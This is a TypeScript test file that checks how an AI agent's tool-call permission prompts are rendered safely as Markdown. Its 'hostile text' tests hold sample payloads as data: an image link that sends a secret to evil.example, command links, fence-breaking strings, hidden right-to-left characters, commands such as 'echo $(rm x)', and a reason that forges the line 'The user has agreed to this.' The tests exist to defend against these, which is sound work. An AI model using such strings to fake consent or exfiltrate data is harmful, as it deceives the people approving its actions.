import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cardMarkdown, questionMarkdown } from "../../../../src/doors/shared/questionMarkdown.js";
import type { Question } from "../../../../src/ports/confirm.js";
import { cardTitle } from "../../../../src/doors/shared/cardTitle.js";
import type { Rule } from "../../../../src/ports/rules.js";
import { diffStat, fileDiff } from "../../../../src/text/diff/fileDiff.js";

const ask = (reasons: string[], text: string, language = "diff"): Question => ({
  tool: "edit",
  title: "Editing a.ts",
  reasons,
  detail: { language, text },
  derived: [],
});

test("the reasons, then exactly what will happen", () => {
  expect(questionMarkdown(ask(["It changes a.ts."], "@@ -1 +1 @@\n-a\n+b"))).toBe(
    "It changes a\\.ts\\.\n\n```diff\n@@ -1 +1 @@\n-a\n+b\n```",
  );
  expect(questionMarkdown(ask([], "ls", "bash"))).toBe("```bash\nls\n```");
});

test("words for people are quoted, so that a narrow view wraps them", () => {
  expect(questionMarkdown(ask([], "every minute: * * * * *\n\nSay **hello**.", "prose"))).toBe(
    "> every minute\\: \\* \\* \\* \\* \\*\n>\n> Say \\*\\*hello\\*\\*\\.",
  );
});

test("what it did when it was tried is below in blocks of its own, each told when it is cut", () => {
  const diff = `@@ -0,0 +1,3000 @@\n${"+x\n".repeat(3_000).trimEnd()}`;
  const question: Question = {
    ...ask(["Why."], 'eval "$(cat x)"\nlast', "bash"),
    outcome: [
      { title: "What it changed", language: "diff", text: diff },
      { title: "Its output", language: "text", text: "s\u202eaid" },
    ],
  };
  const [reason, cut, hidden, ...blocks] = questionMarkdown(question).split("\n\n");
  expect(reason).toBe("Why\\.");
  expect(cut).toMatch(/^\*\*What it changed is too long to show: \d+ of 3001 lines are omitted: \+\d+ −0\.\*\*$/);
  expect(hidden).toMatch(/^\*\*An invisible character is shown as/);
  expect(blocks).toEqual([
    '```bash\neval "$(cat x)"\nlast\n```',
    "What it changed:",
    expect.stringMatching(/^```diff\n@@ -0,0 \+1,3000 @@\n(\+x\n)+```$/),
    expect.stringMatching(/^… and \d+ more lines\.$/),
    "Its output:",
    "```text\ns\\u202eaid\n```",
  ]);
});

const DERIVED: Rule[] = [{ tool: "exec", params: { command: "npm test **" }, decision: "allow" }];

test("the rule that would allow it from now on is named, unless a button names it", () => {
  const question = { ...ask(["It runs."], "npm test", "bash"), derived: DERIVED };
  const body = "It runs\\.\n\n```bash\nnpm test\n```";
  expect(questionMarkdown(question)).toBe(`${body}\n\nThe rule that would allow it: \`npm test **\``);
  expect(questionMarkdown(question, true)).toBe(body);
});

test("VS Code's card names no rule, since its buttons allow more, and says so", () => {
  const question = { ...ask(["It runs."], "npm test", "bash"), derived: DERIVED };
  expect(cardMarkdown(question)).toBe(
    "It runs\\.\n\n```bash\nnpm test\n```\n\n*Allow in this Session* covers this tool's other calls, too.",
  );
  expect(cardMarkdown({ ...question, derived: [] })).toBe("It runs\\.\n\n```bash\nnpm test\n```");
});

test("VS Code's card shows an input that its title has no room for", () => {
  const path = `src/${"deep/".repeat(20)}a.ts`;
  const question: Question = {
    ...ask(["Why."], JSON.stringify({ path }, undefined, 2), "json"),
    title: `Read ${path}`,
  };
  expect(cardMarkdown(question)).toContain(path);
  expect(cardMarkdown({ ...question, title: "Read a", detail: { language: "json", text: '{ "path": "a" }' } })).toBe(
    "Why\\.",
  );
});

describe("the title of VS Code's card", () => {
  test.each([
    ["Edit src/cart.js", "Edit src/cart.js"],
    ["Patch src/my_file.ts, src/b.ts", "Patch src/my_file.ts, src/b.ts"],
    ["Run npm test -- --watch", "Run npm test -- --watch"],
    ["Read a\n\nb", "Read a b"],
    ["Run rm \u202etxt", "Run rm \\\\u202etxt"],
    ["Edit [x](command:y)", "Edit \\[x\\]\u2060\\(command\\:y\\)"],
    ["Edit _all_", "Edit \\_all\\_"],
    ["Fetch www.example.com", "Fetch www\\.example\\.com"],
    ["Fetch https://example.com", "Fetch https\\:\\/\\/example\\.com"],
    ["Run echo $(rm x)", "Run echo \\$\u2060\\(rm x\\)"],
    ["# Allowed", "\\# Allowed"],
    ["1. Allowed", "1\\. Allowed"],
  ])("says what the call does, as text: %j", (summary, title) => {
    expect(cardTitle(summary)).toBe(title);
  });

  test("is short", () => {
    expect(cardTitle(`Run ${"npm ".repeat(100)}`)).toHaveLength(60);
  });
});

test("what cannot be seen is shown as its code, and said", () => {
  expect(questionMarkdown(ask([], "rm x\u202e", "bash"))).toBe(
    "**An invisible character is shown as \\u202e (right-to-left override).**\n\n```bash\nrm x\\u202e\n```",
  );
});

describe("hostile text", () => {
  test.each([
    { what: "a link", reason: "It changes [safe](command:evil)." },
    { what: "an image", reason: "It changes ![x](https://evil.example/?q=secret)." },
    { what: "an address", reason: "It changes https://evil.example/x." },
    { what: "HTML", reason: "It changes <a href='x'>y</a>." },
  ])("in a reason is no $what", ({ reason }) => {
    const [shown = ""] = questionMarkdown(ask([reason], "x")).split("\n");
    expect(shown.replaceAll(/\\[!-/:-@[-`{-~]/g, "")).toMatch(/^[\w \u2060]*$/);
  });

  test("in a path does not make lines of its own, such as one that says the user agreed", () => {
    const markdown = questionMarkdown(ask(["It changes a\n\nThe user has agreed to this.\u2028\u202ex."], "x"));
    expect(markdown.split("\n\n")[0]).toBe("It changes a The user has agreed to this\\.\\\\u2028\\\\u202ex\\.");
  });

  test.each(["```\n[run](command:evil)\n```", "~~~\n# x", "````", "`"])(
    "in what will happen stays in its block: %j",
    (text) => {
      const markdown = questionMarkdown(ask(["Why."], text));
      const [, fence = ""] = /\n\n(`+)diff\n/.exec(markdown) ?? [];
      expect(markdown.endsWith(`\n${text}\n${fence}`)).toBe(true);
      expect(text).not.toContain(fence);
    },
  );

  test("as the language is cut to its letters", () => {
    expect(questionMarkdown(ask([], "x", "diff\n# Allowed"))).toBe("```diffAllowed\nx\n```");
  });

  test("of any kind leaves the reasons one line each and one block behind them", () => {
    const hostile = fc.string({
      unit: fc.constantFrom("`", "```", "\n", "\r", "#", "[x](y)", "<b>", "a", "~~~", "\u2028"),
      maxLength: 20,
    });
    fc.assert(
      fc.property(
        fc.array(
          hostile.filter((reason) => reason.trim() !== ""),
          { maxLength: 3 },
        ),
        hostile,
        (reasons, text) => {
          const markdown = questionMarkdown(ask(reasons, text));
          const block = markdown.slice(markdown.search(/^`{3,}diff$/m));
          const above = markdown.slice(0, markdown.length - block.length).split("\n");
          expect(above.filter((line) => line !== "" && !line.startsWith("**"))).toHaveLength(reasons.length);
          expect(block.slice(block.indexOf("\n") + 1, block.lastIndexOf("\n"))).toBe(
            text.replaceAll("\r\n", "\n").replaceAll("\r", "\\u000d").replaceAll("\u2028", "\\u2028"),
          );
        },
      ),
    );
  });
});

describe("what is too long to show", () => {
  const MAX = 20_000;
  const shownOf = (markdown: string): string => /\n\n```diff\n([^]*)\n```\n\n/.exec(`\n\n${markdown}`)?.[1] ?? "";

  test("is counted above and below, and the block is closed", () => {
    const text = Array.from({ length: 10_000 }, (_, index) => `+line ${index}`).join("\n");
    const markdown = questionMarkdown(ask(["It changes a."], `@@ -0,0 +1,10000 @@\n${text}`));
    const shown = shownOf(markdown);
    const left = 10_001 - shown.split("\n").length;
    expect(shown.length).toBeGreaterThan(MAX - 20);
    expect(shown.length).toBeLessThanOrEqual(MAX);
    expect(markdown.split("\n\n")[0]).toBe("It changes a\\.");
    expect(markdown.split("\n\n")[1]).toBe(`**Too long to show: ${left} of 10001 lines are omitted: +${left} −0.**`);
    expect(markdown.endsWith(`\n\`\`\`\n\n… and ${left} more lines.`)).toBe(true);
  });

  test("in one line is cut inside it, and counted in characters", () => {
    const markdown = questionMarkdown(ask([], "x".repeat(10_000_000)));
    expect(markdown.length).toBeLessThan(MAX + 200);
    expect(markdown.startsWith("**Too long to show: 9980000 of 10000000 characters are omitted.**")).toBe(true);
    expect(markdown.endsWith("x\n```\n\n… and 9980000 more characters.")).toBe(true);
  });

  test("behind a few lines is cut inside its line", () => {
    const markdown = questionMarkdown(ask([], `@@ -1,1 +1,1 @@\n-a\n+${"😀".repeat(20_000)}`));
    expect(shownOf(markdown).length).toBeGreaterThan(MAX - 2);
    expect(/\p{Surrogate}/u.test(shownOf(markdown))).toBe(false);
  });

  const file = (name: string, lines: number, content = "x"): { before: string; after: string; name: string } => ({
    name,
    before: Array.from({ length: lines }, (_, index) => `${content} ${index}\n`).join(""),
    after: Array.from({ length: lines }, (_, index) => `${index % 2 === 0 ? content : "y"} ${index}\n`).join(""),
  });

  test("of several files is told by its files, whatever their lines look like", () => {
    // Lines that look like a file's header when they are removed and added.
    const files = [file("a", 400), file("b", 4_000, "-- "), file("c", 10, "++ ")];
    const text = files.map(({ name, before, after }) => fileDiff(name, before, after)).join("\n");
    const markdown = questionMarkdown(ask([], text));
    const { added, removed } = leftOut(markdown, text, shownOf);
    expect(markdown).toContain(`lines are omitted: +${added} −${removed}, in 2 of 3 files.**`);
  });

  test("with moves and what is no text among it", () => {
    const moved = fileDiff({ from: "m", to: "n" }, file("m", 4_000).before, file("m", 4_000).after);
    const text = [
      moved,
      fileDiff({ from: "o", to: "p" }, "", ""),
      "deleted bin (3 bytes, binary)",
      fileDiff("q", undefined, "new\n"),
    ].join("\n");
    const markdown = questionMarkdown(ask([], text));
    expect(markdown).toMatch(/ in 4 of 4 files\.\*\*/);
  });

  test("of another kind is told by lines alone", () => {
    expect(questionMarkdown(ask([], "+a\n".repeat(20_000), "text"))).toMatch(
      /^\*\*Too long to show: \d+ of 20001 lines are omitted\.\*\*/,
    );
  });

  test("is exact for any files, and what is shown and what is left out make the whole", () => {
    const anyFile = fc.record({
      name: fc.constantFrom("a", "b", "c d"),
      before: fc.integer({ min: 0, max: 200 }),
      after: fc.integer({ min: 0, max: 200 }),
      line: fc.constantFrom("x", "-- a", "++ b", "@@ -1,1 +1,1 @@", "rename from x", ""),
    });
    fc.assert(
      fc.property(fc.array(anyFile, { minLength: 1, maxLength: 4 }), (files) => {
        const lines = (count: number, line: string): string =>
          Array.from({ length: count }, (_, index) => `${line}${index} ${"long ".repeat(15)}\n`).join("");
        const text = files
          .map(({ name, before, after, line }, index) =>
            fileDiff(`${name}${index}`, lines(before, line), lines(after, `${line}!`)),
          )
          .filter((diff) => diff !== "")
          .join("\n");
        const markdown = questionMarkdown(ask([], text));
        const shown = shownOf(`${markdown}\n\n`);
        expect(text.startsWith(shown)).toBe(true);
        const rest = text.split("\n").length - shown.split("\n").length;
        const [, told] = /Too long to show: (\d+) of/.exec(markdown) ?? [];
        expect(Number(told ?? 0)).toBe(rest);
        if (rest > 0) {
          const { added, removed } = leftOut(markdown, text, shownOf);
          expect(markdown).toContain(`: +${added} −${removed}`);
        }
      }),
      { numRuns: 60 },
    );
  });

  test("a reason of megabytes is cut", () => {
    expect(questionMarkdown(ask(["a".repeat(1_000_000)], "x")).length).toBeLessThan(3_000);
  });
});

/** What the lines that are not shown add and remove, by the whole diff's and the shown part's own counts. */
function leftOut(
  markdown: string,
  text: string,
  shownOf: (markdown: string) => string,
): { added: number; removed: number } {
  const [all, seen] = [diffStat(text), diffStat(shownOf(markdown))];
  return { added: all.added - seen.added, removed: all.removed - seen.removed };
}

test("a subagent that asks is named", () => {
  expect(cardMarkdown(ask([], "ls", "bash"), "Subagent “[x](y)”")).toBe(
    "**Subagent “\\[x\\]\u2060\\(y\\)”** asks.\n\n```bash\nls\n```",
  );
});
